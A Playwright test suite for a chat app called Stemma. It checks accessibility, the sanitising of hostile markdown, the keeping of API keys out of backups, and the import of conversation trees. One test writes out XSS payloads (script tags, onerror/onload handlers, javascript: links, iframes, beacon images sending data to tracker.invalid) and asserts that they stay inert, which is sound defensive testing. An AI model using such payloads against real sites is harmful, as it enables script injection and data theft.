import { existsSync } from 'node:fs';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Page } from '@playwright/test';
import { Stemma, UPSTREAM } from './stemma.ts';

async function expectAccessible(page: Page): Promise<void> {
	const { violations } = await new AxeBuilder({ page }).analyze();
	expect(violations.map(({ id, nodes }) => [id, nodes.map((node) => node.html.slice(0, 160))])).toEqual([]);
}

for (const colorScheme of ['light', 'dark'] as const) {
	test(`every screen is accessible in ${colorScheme}`, async ({ browser }) => {
		const context = await browser.newContext({ colorScheme, reducedMotion: 'reduce' });
		const page = await context.newPage();
		const stemma = new Stemma(page);
		await stemma.open();
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		await expectAccessible(page);
		await page.getByRole('button', { name: 'Use the practice model' }).click();
		await stemma.ask('Show me code, a table, a list and some math');
		await page.waitForTimeout(400);
		await expectAccessible(page);
		await stemma.button(await stemma.at(2), 'What was sent').click();
		await expect(page.getByRole('dialog', { name: 'What was sent' }).getByRole('listitem')).toHaveCount(1);
		await page.waitForTimeout(300);
		await expectAccessible(page);
		await page.keyboard.press('Escape');
		await page.keyboard.press('Control+k');
		await expect(page.getByRole('dialog', { name: 'Command palette' })).toBeVisible();
		await page.waitForTimeout(300);
		await expectAccessible(page);
		await page.keyboard.press('Escape');
		await page.goto('/settings');
		await expect(page.getByText(/^SQLite \d/)).toBeVisible();
		await expectAccessible(page);
		await page.setViewportSize({ width: 390, height: 800 });
		await page.goto('/');
		await expect(stemma.message).toBeVisible();
		await page.waitForTimeout(300);
		await expectAccessible(page);
		await context.close();
	});
}

test('hostile text is text: nothing runs, nothing is fetched', async ({ page }) => {
	const stemma = new Stemma(page);
	await stemma.openWithPractice();
	await stemma.ask('x');
	const requests: string[] = [];
	page.on('request', (request) => requests.push(request.url()));
	const dialogs: string[] = [];
	page.on('dialog', (dialog) => {
		dialogs.push(dialog.message());
		void dialog.dismiss();
	});
	await stemma.button(await stemma.at(2), 'Edit').click();
	await page
		.getByRole('textbox', { name: 'Edit message' })
		.fill(
			[
				'<script>alert(1)</script><img src=x onerror=alert(2)>',
				'![beacon](https://tracker.invalid/p.gif?d=secret)',
				'[click](javascript:alert(3)) [ok](https://user:pw@example.org/path)',
				'<iframe src="https://tracker.invalid/frame"></iframe>',
				'$\\href{javascript:alert(4)}{x}$ $\\includegraphics{https://tracker.invalid/i.png}$',
				'```html\n<img src="https://tracker.invalid/code.png">\u202e\n```',
				'<svg onload=alert(5)>',
				'[ref]: javascript:alert(6)\n\n[ref]'
			].join('\n\n')
		);
	await page.getByRole('button', { name: 'Save as new version' }).click();
	const answer = await stemma.at(2);
	await expect(answer).toContainText('<script>alert(1)</script>');
	await page.waitForTimeout(800);
	expect(dialogs).toEqual([]);
	expect(requests.filter((url) => url.includes('tracker.invalid'))).toEqual([]);
	expect(
		await answer
			.locator('.prose script, .prose img, .prose iframe, .prose [onerror], .prose [onload]')
			.count()
	).toBe(0);
	const links = await answer
		.locator('.prose a')
		.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
	expect(links.every((href) => href?.startsWith('https://') === true)).toBe(true);
	expect(links).toContain('https://example.org/path');
	await expect(answer.locator('pre')).toContainText('⟨U+202E⟩');
});

test('a key is never in the database', async ({ page }) => {
	const stemma = new Stemma(page);
	await stemma.open();
	await page.getByRole('textbox', { name: 'Address' }).fill(`${UPSTREAM}/v1`);
	await page.getByRole('textbox', { name: 'Key', exact: true }).fill('sk-very-secret-key');
	await page.getByRole('button', { name: 'Add', exact: true }).click();
	await expect(stemma.message).toBeVisible();
	await stemma.chooseModel('Scenario plain');
	await stemma.ask('hello');
	await page.goto('/settings');
	// Without the picker, which nobody can drive from here, the browser downloads.
	await page.evaluate(() => {
		Reflect.deleteProperty(globalThis, 'showSaveFilePicker');
	});
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Back up now' }).click();
	const stream = await (await download).createReadStream();
	const chunks: Buffer[] = [];
	for await (const chunk of stream) chunks.push(chunk as Buffer);
	const file = Buffer.concat(chunks);
	expect(file.subarray(0, 15).toString()).toBe('SQLite format 3');
	expect(file.includes('Hello, world.')).toBe(true);
	expect(file.includes('sk-very-secret-key')).toBe(false);
});

const trees = '../shared/data/oasst/en_100_tree.jsonl';
test('real conversation trees arrive whole and open at any message', async ({ page }) => {
	test.skip(!existsSync(trees), `${trees} is not here`);
	const stemma = new Stemma(page);
	await stemma.openWithPractice();
	await page.goto('/settings');
	await page.getByLabel('Tree file').setInputFiles(trees);
	await expect(page.getByText('1167 new messages of 1167 in 100 conversations.')).toBeVisible({
		timeout: 40_000
	});
	await page.getByLabel('Tree file').setInputFiles(trees);
	await expect(page.getByText('0 new messages of 1167 in 100 conversations.')).toBeVisible({
		timeout: 40_000
	});
	await page.getByRole('searchbox', { name: 'Search conversations' }).fill('best 401k plan');
	await page
		.getByRole('link', { name: /401k plan/ })
		.first()
		.click();
	const answer = await stemma.at(2);
	await expect(answer).toContainText(/\d\/\d/);
	for (let i = 0; i < 3; i++) {
		const version = await stemma.at(2);
		const next = stemma.button(version, 'Next version');
		if (await next.isDisabled()) break;
		const before = await version.getAttribute('data-node');
		await next.click();
		await expect(page.locator('article[aria-posinset="2"]')).not.toHaveAttribute('data-node', before ?? '');
	}
});
